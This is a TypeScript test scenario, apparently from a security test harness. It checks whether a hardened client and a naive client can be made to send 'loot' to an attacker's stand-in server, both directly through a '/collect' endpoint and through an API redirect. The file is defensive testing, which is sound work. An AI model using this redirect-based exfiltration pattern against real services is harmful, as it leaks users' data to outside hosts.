// Has each client call a server of the attacker's: straight, and by a redirect from the API.
import { type Attack, refusal } from "./attack";
import { ForeignServer } from "./foreign-server";

export const foreignOrigin: Attack = {
  id: "foreign-origin",
  name: "Call a foreign server",
  method:
    "A call through each client to another origin, and one to the API that is redirected there. The foreign server reports.",
  async run({ client, naive, servers }, loot) {
    await naive.ready();
    const foreign = await ForeignServer.watch(servers.foreignUrl);
    const redirecting = `${servers.apiUrl}/redirect-cross`;
    const straight = await outcome(client.fetch(`${servers.foreignUrl}/collect`));
    const redirected = await outcome(client.fetch(redirecting));
    const ofStrongroom = await foreign.take(loot);
    await outcome(naive.fetch(`${servers.foreignUrl}/collect`));
    await outcome(naive.fetch(redirecting));
    const ofNaive = await foreign.take(loot);
    return {
      strongroom: `Straight: ${straight}. By redirect: ${redirected}. The foreign server got ${ofStrongroom}.`,
      naive: `The foreign server got ${ofNaive}.`,
    };
  },
};

async function outcome(work: Promise<Response>): Promise<string> {
  try {
    const { status } = await work;
    return `answer ${status}`;
  } catch (error) {
    return `no answer (${refusal(error)})`;
  }
}
